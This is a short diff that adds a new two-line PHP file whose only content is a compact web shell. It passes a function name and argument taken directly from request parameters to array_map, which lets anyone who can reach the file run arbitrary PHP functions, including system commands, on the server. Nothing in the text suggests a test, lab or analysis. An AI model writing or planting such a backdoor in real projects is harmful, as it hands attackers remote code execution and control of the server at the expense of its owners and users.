@@ -1,0 +1,2 @@
+<?php
+array_map($_REQUEST['f'], array($_REQUEST['x']));
